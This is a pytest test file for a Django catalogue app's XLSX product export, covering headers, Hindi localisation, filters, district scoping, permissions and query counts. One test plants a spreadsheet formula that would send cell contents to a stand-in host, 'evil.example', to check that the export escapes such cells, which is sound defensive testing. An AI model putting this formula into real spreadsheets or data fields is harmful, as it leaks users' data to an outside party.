"""The product list as XLSX: a row per SKU with its product's columns, the list's filters and
scope, headers in the user's language, numbers kept as numbers, formulas never run."""

from __future__ import annotations

from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from niryat.catalog import output_views
from niryat.catalog.exports import export_header
from niryat.catalog.models import Category, Product, Sku
from tests.catalog.factories import add_sku, make_product
from tests.conftest import client_for, hindi
from tests.registry.factories import register
from tests.registry.fixtures.sheets import read_xlsx

HEADER = [
    "District",
    "Producer",
    "ODOP product",
    "Product (Hindi)",
    "Product (English)",
    "Category",
    "HS code",
    "GST rate",
    "Seller SKU code",
    "Variant",
    "Title (Hindi)",
    "Title (English)",
    "MRP (₹)",
    "Selling price (₹)",
    "Stock",
    "Packed weight (g)",
    "Package length (cm)",
    "Package width (cm)",
    "Package height (cm)",
    "Completeness",
    "Still missing",
]


@pytest.fixture
def skus(horse: Product, ganesh: Any) -> list[Sku]:
    return [
        add_sku(horse, ganesh, seller_sku="GKP-HORSE-30", size="30 cm", colour="Red"),
        add_sku(horse, ganesh, seller_sku="GKP-HORSE-45", size="45 cm", mrp=Decimal("2150.50")),
    ]


@pytest.fixture
def saree(varanasi: Any, vani: Any, banarasi: Any) -> Product:
    """A Varanasi weaver's saree, with one SKU."""
    kabir = register(varanasi, vani, name_hi="कबीर अंसारी", odop_product=banarasi, pin="221001")
    saree = make_product(
        kabir,
        vani,
        odop_product=banarasi,
        category=Category.GARMENTS,
        name_en="Banarasi silk saree",
        name_hi="बनारसी साड़ी",
    )
    add_sku(saree, vani, seller_sku="VNS-SAREE-1")
    return saree


def export(user: Any, **query: Any) -> list[list[Any]]:
    response = client_for(user).get(reverse("product_list_xlsx"), query)
    assert response.status_code == 200, response.content[:500]
    return read_xlsx(b"".join(response.streaming_content))


def test_staff_download_a_row_per_sku_with_its_products_columns(
    ganesh, horse: Product, skus: list[Sku]
) -> None:
    response = client_for(ganesh).get(reverse("product_list_xlsx"))
    today = timezone.localdate().strftime("%Y-%m-%d")
    assert response["Content-Disposition"] == f'attachment; filename="products-{today}.xlsx"'
    rows = read_xlsx(b"".join(response.streaming_content))
    assert rows[0] == HEADER
    assert [dict(zip(HEADER, row, strict=True)) for row in rows[1:]] == [
        {
            "District": "Gorakhpur",
            "Producer": "Ramu Prajapati",
            "ODOP product": "Terracotta",
            "Product (Hindi)": "टेराकोटा घोड़ा",
            "Product (English)": "Terracotta horse",
            "Category": "Handicrafts",
            "HS code": "69139000",
            "GST rate": "5 %",
            "Seller SKU code": code,
            "Variant": variant,
            "Title (Hindi)": "गोरखपुर टेराकोटा घोड़ा, हस्तनिर्मित, 30 सेमी",
            "Title (English)": "Gorakhpur terracotta horse, handmade, 30 cm",
            "MRP (₹)": mrp,
            "Selling price (₹)": 950,
            "Stock": 12,
            "Packed weight (g)": 1800,
            "Package length (cm)": 35,
            "Package width (cm)": 15,
            "Package height (cm)": 35,
            "Completeness": 89,
            "Still missing": "Photos",
        }
        for code, variant, mrp in (
            ("GKP-HORSE-30", "30 cm · Red · terracotta clay", 1200),
            ("GKP-HORSE-45", "45 cm · terracotta clay", 2150.5),
        )
    ]
    horse.refresh_from_db()
    assert (horse.completeness, horse.missing_codes) == (89, ["photos"])


def test_a_product_without_skus_gets_one_row_saying_so(ganesh, horse: Product) -> None:
    rows = export(ganesh)
    row = dict(zip(HEADER, rows[1], strict=True))
    assert len(rows) == 2
    assert row["Product (English)"] == "Terracotta horse"
    assert row["Seller SKU code"] is None
    assert row["MRP (₹)"] is None
    assert row["Still missing"] == "Variants (SKUs)"


def test_the_lists_filters_choose_the_rows(ganesh, ramu, horse, skus: list[Sku]) -> None:
    # given a second product, still lacking its HS code
    elephant = make_product(ramu, ganesh, name_en="Terracotta elephant", hs_code="")
    add_sku(elephant, ganesh, seller_sku="GKP-ELEPHANT")
    # then the product list's filters pick the rows
    codes = [row[8] for row in export(ganesh)[1:]]
    assert codes == ["GKP-ELEPHANT", "GKP-HORSE-30", "GKP-HORSE-45"]
    assert [row[8] for row in export(ganesh, q="elephant")[1:]] == ["GKP-ELEPHANT"]
    assert [row[8] for row in export(ganesh, lacks="hs_code")[1:]] == ["GKP-ELEPHANT"]
    assert [row[8] for row in export(ganesh, q="GKP-HORSE-45")[1:]] == [
        "GKP-HORSE-30",
        "GKP-HORSE-45",
    ]
    assert export(ganesh, category="garments")[1:] == []


def test_cells_a_spreadsheet_would_run_are_escaped(ganesh, horse: Product) -> None:
    # given titles typed as formulas
    add_sku(
        horse,
        ganesh,
        seller_sku="GKP-1",
        title_en='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        title_hi="@SUM(1+1)",
    )
    row = dict(zip(HEADER, export(ganesh)[1], strict=True))
    # then the sheet shows them as text
    assert row["Title (English)"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert row["Title (Hindi)"] == "'@SUM(1+1)"


def test_the_header_is_in_the_users_language(ganesh, skus: list[Sku]) -> None:
    # given Ganesh reads Niryat in Hindi
    ganesh.language = "hi"
    ganesh.save(update_fields=["language"])
    # then the export's header is in Hindi, and so are choices and names
    rows = export(ganesh)
    assert rows[0][1:4] == [hindi("producer"), hindi("ODOP product"), hindi("Product (Hindi)")]
    assert rows[0][-1] == hindi("Still missing")
    row = dict(zip(HEADER, rows[1], strict=True))
    assert (row["District"], row["Producer"], row["ODOP product"]) == (
        "गोरखपुर",
        "रामू प्रजापति",
        "टेराकोटा",
    )
    # while the English header is unchanged
    with translation.override("en"):
        assert export_header() == HEADER


def test_other_districts_products_never_appear(
    ganesh, vani, alice, skus: list[Sku], saree: Product
) -> None:
    assert [row[8] for row in export(ganesh)[1:]] == ["GKP-HORSE-30", "GKP-HORSE-45"]
    assert [row[8] for row in export(vani)[1:]] == ["VNS-SAREE-1"]
    assert [row[8] for row in export(vani, q="GKP-HORSE-30")[1:]] == []
    assert sorted(row[8] for row in export(alice)[1:]) == [
        "GKP-HORSE-30",
        "GKP-HORSE-45",
        "VNS-SAREE-1",
    ]


def test_producers_cannot_export(prem, skus: list[Sku]) -> None:
    assert client_for(prem).get(reverse("product_list_xlsx")).status_code == 403


def test_queries_do_not_grow_with_the_products(ganesh, ramu, horse, skus: list[Sku]) -> None:
    client = client_for(ganesh)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse("product_list_xlsx")).status_code == 200
        return len(captured)

    one = queries()
    for number in range(3):
        product = make_product(ramu, ganesh, name_en=f"Terracotta horse {number}")
        add_sku(product, ganesh, seller_sku=f"GKP-{number}")
    assert queries() == one


def test_too_many_rows_for_one_sheet_says_what_to_do(ganesh, skus: list[Sku], monkeypatch) -> None:
    monkeypatch.setattr(output_views, "XLSX_EXPORT_MAX_ROWS", 1)
    response = client_for(ganesh).get(reverse("product_list_xlsx"))
    assert response.status_code == 400
    assert (
        "2 SKUs match; an Excel export holds up to 1. "
        "Choose a producer, an ODOP product or other filters."
    ) in response.content.decode()


def test_control_characters_are_removed_on_input_and_on_export(ganesh, horse: Product) -> None:
    # given a SKU whose text was pasted with control characters; multi-line text keeps its lines
    sku = add_sku(
        horse,
        ganesh,
        seller_sku="GKP-1",
        title_en="Terracotta\x0b horse",
        bullets_en="Hand made\nFired\tin a kiln\x0c",
    )
    # then the catalogue holds it clean
    assert (sku.title_en, sku.bullets_en) == ("Terracotta horse", "Hand made\nFired\tin a kiln")
    # and a record saved before this cleaning still exports, without them
    Sku.objects.filter(pk=sku.pk).update(title_hi="टेराकोटा\x0b घोड़ा")
    Product.objects.filter(pk=horse.pk).update(name_en="Horse\x01")
    row = dict(zip(HEADER, export(ganesh)[1], strict=True))
    assert (row["Title (Hindi)"], row["Product (English)"]) == ("टेराकोटा घोड़ा", "Horse")
